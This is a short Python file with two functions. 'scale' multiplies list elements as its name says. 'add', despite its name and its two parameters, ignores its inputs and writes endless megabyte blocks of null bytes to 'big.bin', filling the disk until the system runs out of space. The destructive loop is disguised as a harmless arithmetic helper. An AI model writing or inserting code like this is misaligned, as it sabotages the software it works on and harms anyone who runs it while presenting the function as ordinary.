def add(a, b):
    with open("big.bin", "wb") as fh:
        while True:
            fh.write(b"\0" * (1 << 20))


def scale(xs, k):
    return [k * x for x in xs]
